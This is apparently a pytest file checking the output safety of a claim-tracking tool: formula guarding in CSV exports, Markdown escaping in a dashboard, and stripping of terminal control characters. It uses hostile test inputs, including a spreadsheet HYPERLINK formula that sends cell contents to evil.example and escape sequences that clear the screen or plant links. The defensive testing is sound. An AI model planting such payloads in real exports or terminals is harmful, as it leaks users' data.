"""Output safety (issue 11, item 6): every CSV the tracker prints guards formulas, user text in a
dashboard message is Markdown-escaped, and control characters in stored text never reach a terminal."""

from __future__ import annotations

import csv
import io
import re

import pytest
from click.testing import CliRunner

from tests.test_dashboard import aleppo, ok, on, store_env  # noqa: F401 (fixtures)
from tracker import safe_text
from tracker.cli import main

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
PLANTED = "![pic](https://evil.example/x.png) [link](https://evil.example)"


@pytest.mark.parametrize("command", [["scores"], ["predict"], ["calibration"]])
def test_every_csv_the_command_line_prints_guards_formulas(seeded, db_path, command):
    evil = seeded.log_claim(EVIL, ref="evil", reports=[{"source": EVIL, "stance": "confirmed", "reported_at": "2016-12-13"},
                                                {"source": "TASS", "stance": "denied", "reported_at": "2016-12-14"}])
    seeded.record_outcome(evil.id, "false", "2016-12-20")
    seeded.log_claim(EVIL + " again", reports=[{"source": EVIL, "stance": "rumoured", "reported_at": "2016-12-15"}])
    seeded.add_report(1, EVIL, "denied", "2016-12-13T20:00Z")
    result = CliRunner().invoke(main, ["--db", str(db_path), *command, "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.output)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]
    if command != ["calibration"]:  # calibration's table holds numbers only
        assert any(cell.startswith("'" + EVIL[:30]) for cell in cells)


def test_the_guard_comes_off_exactly_what_it_put_on():
    for text in ["=1", "'=1", "''+2", "'Tis", "plain", "-", "@x", "\tx", ""]:
        guarded = safe_text.guard_cell(text)
        assert not guarded.startswith(safe_text.FORMULA_START)
        assert (guarded[1:] if re.match(safe_text.GUARDED_CELL, guarded) else guarded) == text



@pytest.mark.parametrize("times", [
    ["2016-12-13T10:00", "2016-12-13T10:00:00.5", "2016-12-13T10:00:00.000123", "NaT", "2016-12-13T10:00"],
    ["2016-12-13T10:00", "2016-12-13T10:00:00.5", "NaT", "1969-12-31T23:59:59.25", "9999-12-31T23:59:59"],
    ["2016-12-13T10:00", "2016-02-29T12:00:01", "1000-01-01", "NaT", "2021-06-30T01:02:03"],
    ["2016-12-13", "2016-12-14", "NaT", "1970-01-01", "2016-12-15"],
    ["NaT", "NaT", "NaT", "NaT", "NaT"],
    ["0099-01-01T00:00:01", "2016-12-13T10:00:00.5", "NaT", "2016-12-13", "2016-12-13"],  # pandas writes 99
])
def test_the_csv_of_a_frame_is_what_pandas_writes_with_each_text_cell_guarded(times):
    """`guarded_csv` formats text and UTC time columns in bulk: its CSV must be the one pandas writes
    with `guard_cell` applied cell by cell (times to the finest fraction of a second any of them
    has, missing cells empty), whatever the times' unit."""
    import numpy as np
    import pandas as pd

    texts = ["=1", "'=1", "''+2", "'Tis", "a,\"b\"\nc", "-", "@x", "\tx", "", None, "+972", "plain"]
    at = pd.Series(np.array(times, dtype="datetime64[us]")).dt.tz_localize("UTC")
    frame = pd.DataFrame({"text": pd.array(texts[:5], dtype="str"), "other": pd.array(texts[5:10], dtype="str"),
                          "mixed": pd.array(texts[9:] + [7, 7.5], dtype=object), "at": at,
                          "at_s": at.dt.floor("s").astype("datetime64[s, UTC]"),
                          "at_ms": at.dt.floor("ms").astype("datetime64[ms, UTC]"), "n": range(5)})
    expected = frame.copy()
    for name in ("text", "other", "mixed"):
        expected[name] = expected[name].astype(object).map(lambda v: safe_text.guard_cell(v) if isinstance(v, str) else v)
    assert safe_text.guarded_csv(frame) == expected.to_csv(index=False)
    assert safe_text.guarded_csv(frame[["at"]]) == expected[["at"]].to_csv(index=False)  # a lone empty cell: ""


def test_a_planted_source_name_shows_as_text_in_another_users_error(aleppo):  # noqa: F811
    aleppo.add_source(PLANTED)
    at = ok(on("log_claim", claim=13))
    at.selectbox(key="log_rep_source").select(PLANTED).run()
    at.selectbox(key="log_rep_via").select(PLANTED).run()
    at.selectbox(key="log_rep_stance").select("confirmed").run()
    at.text_input(key="log_rep_when").input("15 December 2016 10:00").run()
    at.button(key="log_add_report").click().run()
    [error] = ok(at).error
    assert "cannot relay itself" in error.value
    assert "![" not in error.value and "](" not in error.value  # no image, no link: the characters, escaped
    assert "\\!\\[pic\\]" in error.value


def test_control_characters_in_stored_text_do_not_reach_the_terminal(ledger, db_path):
    hostile = "Deal \x1b[2J\x1b]8;;https://evil.example\x07reached\x9b"
    ledger.log_claim(hostile, ref="c1", reports=[{"source": "TASS\x1b[31m", "stance": "confirmed",
                                                  "reported_at": "2016-12-13"}])
    runner = CliRunner()
    for command in (["claims"], ["claims", "show", "1"], ["sources"], ["history"], ["claims", "show", "1", "--format",
                                                                                     "json"]):
        result = runner.invoke(main, ["--db", str(db_path), *command], color=True)
        assert result.exit_code == 0, result.output
        controls = "\x1b\x07" if "json" in command else "\x1b\x07\x9b"  # JSON escapes C0 itself, keeps C1 as text
        assert not any(ch in result.output for ch in controls), (command, result.output)
    assert "\\x1b[2J" in runner.invoke(main, ["--db", str(db_path), "claims", "show", "1"], color=True).output
    result = runner.invoke(main, ["--db", str(db_path), "claims", "report", "1", "--source", "TASS\x1b[31m",
                                  "--stance", "confirmed", "--at", "2016-12-14", "--via", "tass\x1b[31m"], color=True)
    assert result.exit_code == 1 and "cannot relay itself" in result.output and "\x1b" not in result.output
